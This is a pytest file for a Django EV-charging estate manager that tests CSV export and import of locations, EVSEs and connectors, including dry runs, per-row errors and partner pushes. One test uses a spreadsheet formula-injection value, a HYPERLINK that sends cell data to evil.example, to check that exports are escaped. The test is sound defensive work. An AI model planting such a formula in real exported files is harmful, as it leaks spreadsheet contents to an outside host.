"""The estate as CSV: export, the import's dry run (per-row errors, nothing written) and the
confirmed import through location_upsert (one push per changed location, none unchanged)."""

import io
from collections.abc import Callable, Iterable, Mapping
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.test import Client

from credentials.models import PartnerPlatform
from locations.estate_csv import (
    CONNECTOR_COLUMNS,
    CONNECTORS,
    EVSE_COLUMNS,
    EVSES,
    LOCATION_COLUMNS,
    LOCATIONS,
    connector_rows,
    evse_rows,
    location_rows,
)
from locations.estate_import import plan_estate_import
from locations.models import EVSE, Connector, Location
from ocpi.csv_cells import csv_lines
from ocpi.estate_csv import Column, ImportPlan
from push.models import Change
from tests.csv_files import streamed, table, written
from tests.locations.conftest import location_payload, upsert

IMPORT = "/admin/locations/location/import/"


def as_csv(columns: Iterable[Column], objects: Iterable[Mapping[str, Any]]) -> str:
    columns = list(columns)
    return "".join(
        csv_lines([c.name for c in columns], ([c.read(obj) for c in columns] for obj in objects))
    )


def exported() -> dict[str, str]:
    return {
        LOCATIONS: as_csv(LOCATION_COLUMNS, location_rows(Location.objects.all())),
        EVSES: as_csv(EVSE_COLUMNS, evse_rows(EVSE.objects.all())),
        CONNECTORS: as_csv(CONNECTOR_COLUMNS, connector_rows(EVSE.objects.all())),
    }


def errors(plan: ImportPlan) -> dict[tuple[str, int], list[str]]:
    return {(r.file, r.row): r.errors for r in plan.reports if r.errors}


def pushes() -> list[tuple[str, list[str]]]:
    return [(change.method, change.path) for change in Change.objects.order_by("pk")]


@pytest.fixture
def estate(make_location: Callable[..., Location], partner: PartnerPlatform) -> list[Location]:
    """Two of our locations (three EVSEs) and a partner that receives their pushes."""
    made = [make_location("LOC1", evses=2), make_location("LOC2", evses=1)]
    Change.objects.all().delete()
    return made


def test_export_has_one_row_per_object_in_flat_columns(estate: list[Location]) -> None:
    files = exported()
    locations, evses, connectors = (table(files[name]) for name in (LOCATIONS, EVSES, CONNECTORS))

    assert [row["id"] for row in locations] == ["LOC1", "LOC2"]
    assert locations[0]["latitude"] == estate[0].latitude
    assert locations[0]["roaming"] == "true"
    assert [(row["location_id"], row["uid"]) for row in evses] == [
        ("LOC1", "LOC1-E0"),
        ("LOC1", "LOC1-E1"),
        ("LOC2", "LOC2-E0"),
    ]
    assert len(connectors) == Connector.objects.count()
    assert connectors[0]["max_voltage"] == str(Connector.objects.order_by("pk")[0].max_voltage)


def test_round_trip_changes_nothing_and_pushes_nothing(estate: list[Location]) -> None:
    before = list(Location.objects.order_by("pk").values_list("last_updated", flat=True))

    plan = plan_estate_import(exported())
    plan.write()

    assert plan.ok, errors(plan)
    assert {r.outcome for r in plan.reports} == {"unchanged"}
    assert plan.writes == []
    assert pushes() == []
    assert list(Location.objects.order_by("pk").values_list("last_updated", flat=True)) == before


def test_names_a_spreadsheet_would_run_are_written_as_text_and_read_back_exactly(
    estate: list[Location],
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    upsert(location_payload("LOC3", name=formula))
    upsert(location_payload("LOC4", name="'quoted"))
    upsert(location_payload("LOC5", name="-12.50"))
    Change.objects.all().delete()
    files = exported()

    names = {row["id"]: row["name"] for row in table(files[LOCATIONS])}
    assert (names["LOC3"], names["LOC4"], names["LOC5"]) == ("'" + formula, "''quoted", "-12.50")

    plan = plan_estate_import(files)
    plan.write()

    assert plan.ok, errors(plan)
    assert {r.outcome for r in plan.reports} == {"unchanged"}
    assert pushes() == []


def test_a_formula_typed_without_an_apostrophe_or_an_apostrophe_dropped_is_a_change(
    estate: list[Location],
) -> None:
    upsert(location_payload("LOC3", name="'quoted"))
    Change.objects.all().delete()
    locations = table(exported()[LOCATIONS])
    locations[0]["name"] = "=1+1"  # typed in a spreadsheet as text: no apostrophe to strip
    locations[2]["name"] = "'quoted"  # one apostrophe: read as the text "quoted"

    plan = plan_estate_import({LOCATIONS: written(locations)})
    plan.write()

    assert plan.ok, errors(plan)
    assert [(r.key, r.outcome) for r in plan.reports] == [
        ("BE*BEC*LOC1", "changed"),
        ("BE*BEC*LOC2", "unchanged"),
        ("BE*BEC*LOC3", "changed"),
    ]
    stored = dict(Location.objects.values_list("ocpi_id", "name"))
    assert (stored["LOC1"], stored["LOC3"]) == ("=1+1", "quoted")


def test_errors_are_reported_per_row_and_nothing_is_written(estate: list[Location]) -> None:
    files = exported()
    locations = table(files[LOCATIONS])
    locations[1]["country"] = "Bel"
    evses = table(files[EVSES])
    evses[2]["evse_id"] = evses[0]["evse_id"]  # LOC2's EVSE takes LOC1's evse_id
    evses.append({**evses[0], "location_id": "NOWHERE", "uid": "X-1", "evse_id": ""})
    connectors = table(files[CONNECTORS])
    connectors[0]["max_voltage"] = "23O"
    texts = {
        LOCATIONS: written(locations),
        EVSES: written(evses),
        CONNECTORS: written(connectors),
    }

    plan = plan_estate_import(texts)
    taken = evses[0]["evse_id"]

    assert not plan.ok
    assert errors(plan) == {
        (LOCATIONS, 3): ["country: Must be an ISO 3166-1 alpha-3 code, e.g. BEL."],
        # Both holders are in the file: both rows are told.
        (EVSES, 2): [f"evse_id: {taken} is also the evse_id of EVSE LOC2-E0 of location LOC2."],
        (EVSES, 4): [f"evse_id: {taken} is also the evse_id of EVSE LOC1-E0 of location LOC1."],
        (EVSES, 5): [
            "Unknown location BE*BEC*NOWHERE: neither in the estate nor in the locations file."
        ],
        (CONNECTORS, 2): ["max_voltage: Must be a whole number, not '23O'."],
    }
    with pytest.raises(ValueError, match="writes nothing"):
        plan.write()
    assert pushes() == []
    assert Location.objects.get(ocpi_id="LOC2").country == "BEL"


def test_evse_id_held_elsewhere_in_the_estate_is_refused(
    estate: list[Location], make_location: Callable[..., Location]
) -> None:
    other = make_location("LOC3")
    taken = other.evses.get().evse_id
    evses = table(exported()[EVSES])
    evses[0]["evse_id"] = taken.lower()  # CiString: the same id

    plan = plan_estate_import({EVSES: written(evses[:1])})

    assert errors(plan) == {
        (EVSES, 2): [
            f"evse_id: {taken} is in use by EVSE LOC3-E0 of location LOC3, which is not REMOVED."
        ]
    }


def test_rows_of_a_party_not_ours_and_repeated_rows_are_refused(estate: list[Location]) -> None:
    locations = table(exported()[LOCATIONS])
    foreign = {**locations[0], "country_code": "DE", "party_id": "MSP", "id": "THEIRS"}

    plan = plan_estate_import({LOCATIONS: written([locations[0], locations[0], foreign])})

    assert errors(plan) == {
        (LOCATIONS, 3): ["The same location as row 2."],
        (LOCATIONS, 4): ["DE*MSP is not a party of ours: only our own locations are imported."],
    }


def test_a_file_with_an_unknown_or_missing_key_column_is_refused(estate: list[Location]) -> None:
    plan = plan_estate_import({EVSES: "country_code,party_id,uid,colour\nBE,BEC,E1,red\n"})

    assert plan.file_errors == [
        "EVSEs: unknown column 'colour'.",
        "EVSEs: the column 'location_id' is missing.",
    ]
    assert plan.reports == []


def test_a_valid_import_creates_and_updates_through_the_services(estate: list[Location]) -> None:
    files = exported()
    locations = table(files[LOCATIONS])
    locations[0]["name"] = "Gent Dampoort"
    locations.append(
        {
            **locations[1],
            "id": "LOC9",
            "name": "New site",
            "latitude": "51.100000",
            "longitude": "3.700000",
        }
    )
    evses = table(files[EVSES])
    new_evse = {**evses[0], "location_id": "LOC9", "uid": "LOC9-E0", "evse_id": "BE*BEC*E9"}
    status_only = {**evses[2], "status": "CHARGING"}
    connectors = table(files[CONNECTORS])
    new_connector = {**connectors[0], "location_id": "LOC9", "evse_uid": "LOC9-E0", "id": "1"}
    texts = {
        LOCATIONS: written(locations),
        EVSES: written([new_evse, status_only]),
        CONNECTORS: written([new_connector]),
    }

    plan = plan_estate_import(texts)

    assert plan.ok, errors(plan)
    outcomes = {(r.file, r.key): (r.outcome, r.changes) for r in plan.reports}
    assert outcomes == {
        (LOCATIONS, "BE*BEC*LOC1"): ("changed", ["name"]),
        (LOCATIONS, "BE*BEC*LOC2"): ("unchanged", []),
        (LOCATIONS, "BE*BEC*LOC9"): ("new", []),
        (EVSES, "BE*BEC*LOC9/LOC9-E0"): ("new", []),
        (EVSES, "BE*BEC*LOC2/LOC2-E0"): ("changed", ["status"]),
        (CONNECTORS, "BE*BEC*LOC9/LOC9-E0/1"): ("new", []),
    }
    assert pushes() == []  # the dry run wrote nothing

    plan.write()

    assert Location.objects.get(ocpi_id="LOC1").name == "Gent Dampoort"
    created = EVSE.objects.get(uid="LOC9-E0")
    assert (created.location.name, created.evse_id) == ("New site", "BE*BEC*E9")
    assert created.connectors.get().max_voltage == int(connectors[0]["max_voltage"])
    assert EVSE.objects.get(uid="LOC2-E0").status == "CHARGING"
    assert pushes() == [
        ("PUT", ["BE", "BEC", "LOC1"]),
        ("PATCH", ["BE", "BEC", "LOC2", "LOC2-E0"]),
        ("PUT", ["BE", "BEC", "LOC9"]),
    ]


def test_a_new_evse_without_connectors_is_reported_on_its_row(estate: list[Location]) -> None:
    evses = table(exported()[EVSES])

    plan = plan_estate_import({EVSES: written([{**evses[0], "uid": "E-NEW", "evse_id": ""}])})

    assert errors(plan) == {(EVSES, 2): ["connectors: This list may not be empty."]}


# --- the admin pages --------------------------------------------------------------------


def upload(client: Client, **files: str) -> Any:
    uploads = {}
    for name, text in files.items():
        handle = io.BytesIO(text.encode())
        handle.name = f"{name}.csv"
        uploads[name] = handle
    return client.post(IMPORT, uploads)


def test_admin_dry_run_shows_row_errors_then_confirm_writes(
    operator: Client, estate: list[Location]
) -> None:
    locations = table(exported()[LOCATIONS])
    bad = upload(operator, locations=written([{**locations[0], "country": "Bel"}]))
    good = upload(operator, locations=written([{**locations[0], "name": "Renamed"}]))

    assert bad.status_code == 200
    assert "Must be an ISO 3166-1 alpha-3 code" in bad.content.decode()
    assert "token" not in bad.context
    assert good.context["plan"].ok
    assert Location.objects.get(ocpi_id="LOC1").name != "Renamed"

    confirmed = operator.post(IMPORT, {"token": good.context["token"]})

    assert confirmed.status_code == 302
    assert Location.objects.get(ocpi_id="LOC1").name == "Renamed"
    assert pushes() == [("PUT", ["BE", "BEC", "LOC1"])]


def test_import_needs_the_change_permissions(
    client: Client, django_user_model: Any, estate: list[Location]
) -> None:
    viewer = django_user_model.objects.create_user("viewer", password="x", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_location"))
    client.force_login(viewer)

    assert client.get(IMPORT).status_code == 403
    assert client.get("/admin/locations/location/export/").status_code == 200


def test_admin_export_streams_the_filtered_list_of_our_locations_only(
    operator: Client, estate: list[Location]
) -> None:
    upsert(location_payload("THEIRS", country_code="DE", party_id="MSP"))

    everything = operator.get("/admin/locations/location/export/")
    searched = operator.get("/admin/locations/location/export/?q=LOC2")

    assert everything.streaming
    assert everything["Content-Disposition"] == 'attachment; filename="locations.csv"'
    ids = [row["id"] for row in table(streamed(everything))]
    assert ids == ["LOC1", "LOC2"]
    assert [row["id"] for row in table(streamed(searched))] == ["LOC2"]


def test_a_cut_off_row_is_refused_rather_than_clearing_its_missing_cells(
    estate: list[Location],
) -> None:
    text = exported()[LOCATIONS]
    header, first = text.splitlines()[:2]

    plan = plan_estate_import({LOCATIONS: f"{header}\n{first.rsplit(',', 3)[0]}\n"})

    assert errors(plan) == {(LOCATIONS, 2): ["Fewer cells than the header has columns."]}


def test_admin_exports_the_shown_evses_and_their_connectors(
    operator: Client, estate: list[Location]
) -> None:
    evses = table(streamed(operator.get("/admin/locations/evse/export/?q=LOC2")))
    connectors = table(streamed(operator.get("/admin/locations/evse/export/connectors/?q=LOC2")))

    assert [(row["location_id"], row["uid"]) for row in evses] == [("LOC2", "LOC2-E0")]
    assert {(row["location_id"], row["evse_uid"]) for row in connectors} == {("LOC2", "LOC2-E0")}
    assert len(connectors) == Connector.objects.filter(evse__uid="LOC2-E0").count()


def test_a_write_refused_by_a_service_leaves_nothing_written(
    operator: Client, estate: list[Location]
) -> None:
    """LOC2's EVSE hands its evse_id to one of LOC1: fine for the dry run (the estate as the
    import leaves it), but LOC1 is written first, while LOC2 still holds it: the service
    refuses, and LOC2's change, the first write's push and all roll back with it."""
    evses = table(exported()[EVSES])
    handed = evses[2]["evse_id"]
    rows = [{**evses[0], "evse_id": handed}, {**evses[2], "evse_id": "BE*BEC*ENEW"}]
    dry_run = upload(operator, EVSEs=written(rows))
    assert dry_run.context["plan"].ok

    confirmed = operator.post(IMPORT, {"token": dry_run.context["token"]})

    assert confirmed.status_code == 200
    assert "Nothing was written" in confirmed.content.decode()
    assert EVSE.objects.get(uid="LOC2-E0").evse_id == handed
    assert EVSE.objects.get(uid="LOC1-E0").evse_id == evses[0]["evse_id"]
    assert pushes() == []
